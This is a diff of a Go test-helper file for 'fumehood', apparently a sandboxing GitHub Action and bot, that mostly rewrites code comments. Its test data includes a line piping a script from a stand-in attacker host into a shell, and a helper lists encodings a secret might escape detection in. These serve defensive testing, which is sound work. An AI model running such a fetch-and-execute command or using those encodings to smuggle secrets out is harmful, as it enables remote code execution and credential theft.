@@ -48,11 +48,12 @@ type world struct {
 	head   string
 	fork   bool
 	runID  int64
-	actor  string       // who caused the run
-	ahead  atomic.Int64 // how far GitHub's clock is ahead of ours
+	actor  string       // the user who caused the run
+	ahead  atomic.Int64 // how far GitHub's clock is ahead of this machine's
 }
 
-// files of the repository at the base commit, and what the pull request changes.
+// The files of the repository at the base commit, and those that the pull request
+// changes.
 var (
 	baseFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello\n"}
 	headFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello world\n", "notes/new.txt": "one\ntwo\n"}
@@ -69,17 +70,17 @@ proposals:
     run: curl -s https://evil.example/x.sh | sh
 `
 
-// brief are the tests of worlds that -short leaves: the action as users meet it first.
+// brief are the tests of worlds that run with -short: the most common uses of the action.
 var brief = []string{"TestActionSameRepository", "TestActionFork", "TestBotFork", "TestBotEditedComment", "TestActionHeadMovedBefore"}
 
-// newWorld makes it; base and head add to the files of those commits.
+// newWorld makes a world; base and head are added to the files of those commits.
 func newWorld(t testing.TB, fork bool, base, head map[string]string) *world {
 	t.Helper()
 	if !slices.Contains(brief, t.Name()) {
 		long(t)
 	}
 	w := &world{t: t, dir: t.TempDir(), binary: fumehood(t), cache: builtCache(t), fork: fork, runID: 1000}
-	// The sandbox's supervisor looks at the whole path of what it is given.
+	// The sandbox's supervisor checks every parent directory of the paths it is given.
 	if err := os.Chmod(w.dir, 0o755); err != nil {
 		t.Fatal(err)
 	}
@@ -101,8 +102,8 @@ func newWorld(t testing.TB, fork bool, base, head map[string]string) *world {
 	return w
 }
 
-// A seed is a bare repository with a base and a head commit, of which worlds of the same
-// files have copies: they are commits of one date, so of the same ids.
+// A seed is a bare repository with a base and a head commit. Worlds with the same
+// files use copies of it: the commits have a fixed date, so the ids are the same.
 type seed struct {
 	once            sync.Once
 	dir, base, head string
@@ -110,7 +111,7 @@ type seed struct {
 
 var seeds sync.Map // by the files
 
-// copyRepository gives w a repository at dir.
+// copyRepository creates a repository for w at dir.
 func (w *world) copyRepository(dir string, base, head map[string]string) {
 	w.t.Helper()
 	made, _ := seeds.LoadOrStore(fmt.Sprint(base, head), &seed{})
@@ -149,7 +150,7 @@ func merged(maps ...map[string]string) map[string]string {
 	return all
 }
 
-// permit says what the job's token may do.
+// permit sets the permissions of the job's token.
 func (w *world) permit(permissions ...string) { w.gh.AddWorkflowToken(jobToken, permissions...) }
 
 func (w *world) gitIn(repo string, args ...string) string {
@@ -168,7 +169,7 @@ func (w *world) gitIn(repo string, args ...string) string {
 	return strings.TrimSpace(string(out))
 }
 
-// commit writes files as a commit without a work tree, so that any name goes.
+// commit writes files as a commit without a work tree, so that any name is possible.
 func (w *world) commit(repo, message, parent string, files map[string]string) string {
 	w.t.Helper()
 	work := filepath.Join(w.t.TempDir(), "tree")
@@ -190,7 +191,7 @@ func (w *world) commit(repo, message, parent string, files map[string]string) st
 	return w.gitIn(repo, args...)
 }
 
-// event returns one of GitHub's payloads, made to speak of this world.
+// event returns one of GitHub's payloads, changed to match this world.
 func (w *world) event(name string, change func(map[string]any)) []byte {
 	w.t.Helper()
 	var payload map[string]any
@@ -220,7 +221,7 @@ func (w *world) event(name string, change func(map[string]any)) []byte {
 	return data
 }
 
-// A step is what became of one run of the action.
+// A step is the result of one run of the action.
 type step struct {
 	code    int
 	log     string
@@ -286,7 +287,7 @@ func (w *world) finish(s step, code int, log string) step {
 	return s
 }
 
-// parseOutputs reads the file as the runner does: NAME<<DELIMITER, lines, DELIMITER.
+// parseOutputs parses the file as the runner does: NAME<<DELIMITER, lines, DELIMITER.
 func parseOutputs(t testing.TB, text string) map[string]string {
 	t.Helper()
 	outputs := map[string]string{}
@@ -305,7 +306,7 @@ func parseOutputs(t testing.TB, text string) map[string]string {
 	return outputs
 }
 
-// comment returns the one comment of ours, and fails when there is not exactly one.
+// comment returns the bot's only comment, and fails unless there is exactly one.
 func (w *world) comment() githubtest.Comment {
 	w.t.Helper()
 	list := w.gh.CommentsBy(prNumber, githubtest.ActionsBot)
@@ -315,7 +316,7 @@ func (w *world) comment() githubtest.Comment {
 	return list[0]
 }
 
-// want fails when text lacks one of the pieces.
+// want fails if text lacks one of the pieces.
 func want(t *testing.T, what, text string, pieces ...string) {
 	t.Helper()
 	for _, p := range pieces {
@@ -325,8 +326,8 @@ func want(t *testing.T, what, text string, pieces ...string) {
 	}
 }
 
-// upload does what the action's second step does: it makes the step's artifact one of
-// the run's.
+// upload does what the action's second step does: it makes the step's artifact an
+// artifact of the run.
 func (w *world) upload(s step, change func(map[string][]byte)) int64 {
 	w.t.Helper()
 	if s.outputs["artifact-path"] == "" {
@@ -371,8 +372,8 @@ func zipped(t testing.TB, files map[string][]byte) []byte {
 	return b.Bytes()
 }
 
-// addRun makes the run that just began known to the API; only one that a pull request
-// started is a run of its code.
+// addRun adds the last run to the API. Only one started by a pull request is a run
+// of its code.
 func (w *world) addRun(event, conclusion string) {
 	run := githubtest.Run{ID: w.runID, Number: int(w.runID), Attempt: 1, Event: event, HeadSHA: w.base, HeadBranch: "master",
 		HeadRepository: hub, Conclusion: conclusion, Path: ".github/workflows/fumehood.yml", Name: "fumehood", Actor: w.actor}
@@ -385,7 +386,7 @@ func (w *world) addRun(event, conclusion string) {
 	w.gh.AddRun(run)
 }
 
-// report runs the workflow_run workflow for the run that just was.
+// report runs the workflow_run workflow for the last run.
 func (w *world) report(change func(map[string]any), env ...string) step {
 	w.t.Helper()
 	name := "workflow_run.completed.pr"
@@ -398,7 +399,7 @@ func (w *world) report(change func(map[string]any), env ...string) step {
 	return s
 }
 
-// ask has login comment on the pull request, and runs the bot on it.
+// ask adds a comment by login to the pull request, and runs the bot on it.
 func (w *world) ask(login, body string, env ...string) step {
 	w.t.Helper()
 	id := w.gh.AddComment(prNumber, login, body)
@@ -430,12 +431,12 @@ func accountType(login string) string {
 	return "User"
 }
 
-// later sets GitHub's clock, which counts seconds, to another one.
+// later advances GitHub's clock, which counts seconds.
 func (w *world) later() { w.ahead.Add(int64(2 * time.Second)) }
 
 func (w *world) now() time.Time { return time.Now().Add(time.Duration(w.ahead.Load())) }
 
-// codings are the ways in which a secret may leave without being seen.
+// codings returns the encodings in which a secret might go undetected.
 func codings(secret string) map[string]string {
 	rot := strings.Map(func(r rune) rune {
 		switch {
